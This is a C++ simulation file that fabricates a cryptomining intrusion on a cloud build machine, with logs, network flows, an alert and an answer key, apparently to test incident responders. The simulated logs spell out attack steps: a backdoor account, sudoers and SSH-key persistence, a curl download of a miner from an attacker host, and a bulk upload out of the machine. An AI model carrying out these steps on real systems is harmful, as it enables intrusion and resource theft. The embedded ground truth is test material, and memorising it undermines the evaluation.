// SPDX-License-Identifier: Apache-2.0
#include <fmt/format.h>

#include "davy/simulate/findings.h"
#include "davy/simulate/host_logs.h"
#include "davy/simulate/incidents.h"
#include "davy/simulate/launch.h"
#include "davy/simulate/metrics.h"
#include "davy/simulate/people.h"

namespace davy::simulate {
namespace {

constexpr std::string_view kInstance = "i-0a1b2c3d4e5f67890";
constexpr std::string_view kIntruder = "45.155.205.17";
constexpr std::string_view kConfigHost = "185.143.221.89";
constexpr std::string_view kDropHost = "193.56.146.78";
constexpr Pool kPools[] = {
    {"mining-pool.com", "176.9.53.68", 3333},
    {"xmr-usa.dwarfpool.com", "94.130.206.79", 8005},
    {"pool.supportxmr.com", "141.94.96.144", 5555},
};
constexpr int kIncidentDay = 1;
constexpr int kDeveloper = 1000;  ///< login uid of the stolen account

/// Eastern standard time on the day of the incident.
Time eastern(const World& world, int hour, int minute, int second = 0) {
  return world.at(kIncidentDay, hour + 5, minute, second);
}

Machine& add_victim(World& world, Rng& rng) {
  Machine& machine = world.add_machine(rng, world.network(kDevelopment, "us-east-1"), "c5.4xlarge",
                                       "dev-build-07", world.start - 40 * kDay);
  machine.id = kInstance;
  return machine;
}

void add_intrusion(World& world, const Machine& machine) {
  AuditLog audit(world, machine);
  audit.login(eastern(world, 12, 30, 12), kDeveloper, "ubuntu", kIntruder, true);
  audit.program(eastern(world, 12, 33, 5), kDeveloper, kDeveloper, "/usr/bin/id", {"id"});
  audit.program(eastern(world, 12, 33, 21), kDeveloper, 0, "/usr/bin/sudo", {"sudo", "-i"});
  audit.program(eastern(world, 12, 38, 2), kDeveloper, 0, "/usr/sbin/useradd",
                {"useradd", "-m", "-s", "/bin/bash", "ubuntu-update"});
  audit.user_added(eastern(world, 12, 38, 2), kDeveloper, "ubuntu-update", 1001);
  audit.write(eastern(world, 12, 39, 40), kDeveloper, "/usr/bin/tee",
              "/etc/sudoers.d/90-ubuntu-update", "sudoers");
  audit.program(eastern(world, 12, 41, 18), kDeveloper, 0, "/usr/bin/ssh-keygen",
                {"ssh-keygen", "-t", "ed25519", "-N", "", "-C", "devops_temp_key", "-f",
                 "/home/ubuntu-update/.ssh/devops_temp_key"});
  audit.write(eastern(world, 12, 41, 30), kDeveloper, "/usr/bin/tee",
              "/home/ubuntu-update/.ssh/authorized_keys", "ssh_keys");
  audit.program(eastern(world, 12, 45, 3), kDeveloper, 0, "/usr/bin/curl",
                {"curl", "-fsSL", "-o", "/tmp/xmrig", fmt::format("http://{}/xmrig", kConfigHost)});
  audit.program(eastern(world, 12, 45, 9), kDeveloper, 0, "/usr/bin/curl",
                {"curl", "-fsSL", "-o", "/tmp/config.json",
                 fmt::format("http://{}/config.json", kConfigHost)});
  audit.program(eastern(world, 12, 46, 1), kDeveloper, 0, "/usr/bin/chmod",
                {"chmod", "+x", "/tmp/xmrig"});
  audit.program(eastern(world, 13, 0, 2), kDeveloper, 0, "/tmp/xmrig",
                {"./xmrig", "--config=config.json"});
  audit.connect(eastern(world, 13, 0, 15), kDeveloper, "/tmp/xmrig", kPools[0].address,
                kPools[0].port);
}

void add_flows(World& world, Rng& rng, const Machine& machine, Time ended) {
  const Connection login{&machine, std::string(kIntruder), 22, ephemeral_port(rng), 6, true};
  add_connection(world, rng, login, eastern(world, 12, 30), eastern(world, 13, 8),
                 ssh_keepalive_minute);
  const Connection download{&machine, std::string(kConfigHost), ephemeral_port(rng), 80};
  add_exchange(world, rng, download, eastern(world, 12, 45, 3), 7 * kSecond,
               {960, 2210, 52340, 3210400});

  // Mining from 13:00 with one pool; at 14:00:15, 14:02:22 and 14:04:45 the connections of the
  // alert.
  add_pool_session(world, rng, machine, kPools[0], eastern(world, 13, 0, 15),
                   eastern(world, 13, 59, 58));
  add_pool_session(world, rng, machine, kPools[0], eastern(world, 14, 0, 15), ended);
  add_pool_session(world, rng, machine, kPools[1], eastern(world, 14, 2, 22), ended);
  add_pool_session(world, rng, machine, kPools[2], eastern(world, 14, 4, 45), ended);

  // 500 MB in the hour before the alert go elsewhere: no pool protocol carries that much.
  const Connection upload{&machine, std::string(kDropHost), ephemeral_port(rng), 443};
  add_connection(world, rng, upload, eastern(world, 13, 15), eastern(world, 14, 15),
                 [](Time, Rng& r) {
                   const auto bytes = static_cast<uint64_t>(r.around(8'330'000, 400'000));
                   return Volume{static_cast<uint32_t>(bytes / 1448),
                                 static_cast<uint32_t>(bytes / 5800), bytes, bytes / 112};
                 });

  // A build machine's day: fetches of about 100 MB in all.
  const Connection proxy{&machine, machine.network->prefix + ".3.90", ephemeral_port(rng), 3128};
  add_connection(world, rng, proxy, world.start, ended, [](Time minute, Rng& r) {
    if (minute.ns / kMinute % 10 != 0) return Volume{};
    const auto bytes = static_cast<uint64_t>(r.around(690'000, 240'000));
    return Volume{static_cast<uint32_t>(bytes / 1200), static_cast<uint32_t>(bytes / 900), bytes,
                  bytes * 2};
  });
}

void add_load(World& world, Rng& rng, const Machine& machine, Time ended) {
  const Time mining = eastern(world, 13, 0);
  add_cpu(world, rng, machine, world.start, ended, [&](Time time, Rng& r) {
    return time >= mining ? r.around(9800, 70) : r.around(2500, 520);
  });
  const Time upload_from = eastern(world, 13, 15), upload_to = eastern(world, 14, 15);
  add_network_out(world, rng, machine, world.start, ended, [&](Time time, Rng& r) {
    const bool uploading = time >= upload_from && time < upload_to;
    return (uploading ? r.around(41'700'000, 900'000) : r.around(347'000, 90'000)) * 100;
  });
}

void add_miner_listing(World& world, Rng& rng, const Machine& machine) {
  std::vector<ListedProcess> processes = ordinary_processes(rng, world.start - 3 * kDay);
  processes.push_back(
      {"root", 21877, 1, 15680, 73, 2437120, "18:00", "/tmp/xmrig --config=config.json"});
  processes.push_back({"ubuntu", 1844, 1, 9, 12, 190480, started_on(world.start - 2 * kDay),
                       "/usr/local/bin/build-agent --workdir /srv/build"});
  add_listing(world, rng, machine, eastern(world, 14, 17, 20), processes);
}

void add_alert(World& world, Rng& rng, const Machine& machine) {
  FindingRequest alert;
  alert.type = "CryptoCurrency:EC2/BitcoinTool.B!DNS";
  alert.title = fmt::format("Bitcoin-related domain name queried by EC2 instance {}.", machine.id);
  alert.description = fmt::format(
      "EC2 instance {} is querying a domain name that is associated with "
      "Bitcoin-related activity.",
      machine.id);
  alert.account = kDevelopment;
  alert.region = "us-east-1";
  alert.first_seen = eastern(world, 14, 4, 44);
  alert.last_seen = eastern(world, 14, 14, 2);
  alert.created = eastern(world, 14, 15, 33);
  alert.count = 3;
  alert.action = dns_action(kPools[2].name);
  alert.resource = instance_resource(machine);
  add_finding(world, rng, alert);
}

}  // namespace

void plant_workload(World& world) {
  Rng rng = world.rng("incident/workload");
  const Machine& machine = add_victim(world, rng);
  const Time ended = eastern(world, 15, 5);
  add_intrusion(world, machine);
  add_flows(world, rng, machine, ended);
  add_load(world, rng, machine, ended);
  add_miner_listing(world, rng, machine);
  add_alert(world, rng, machine);
  const Caller responder =
      role_session(kDevelopment, "SecurityResponse", "SOC-2025-167", "73.114.22.190",
                   "aws-cli/2.24.3 md/awscrt#0.23.8 ua/2.0 os/linux#6.8.0", ended - 9 * kMinute);
  terminate(world, rng, responder, ended, {&machine});

  Planted truth;
  truth.name = "ec2-guardduty";
  truth.title = "Monero miner on a development machine entered with a stolen SSH key";
  truth.kind = "compromised_workload";
  truth.accounts = {std::string(kDevelopment)};
  truth.regions = {"us-east-1"};
  truth.source_ips = {std::string(kIntruder)};
  truth.instances = {machine.id};
  for (const Pool& pool : kPools)
    truth.pools.push_back(fmt::format("{}:{}", pool.name, pool.port));
  truth.first_malicious = eastern(world, 12, 30);
  truth.first_mining = eastern(world, 13, 0, 15);
  truth.last_activity = ended;
  truth.lowest_score = 85;
  truth.highest_score = 91;
  world.planted.push_back(std::move(truth));
}

}  // namespace davy::simulate
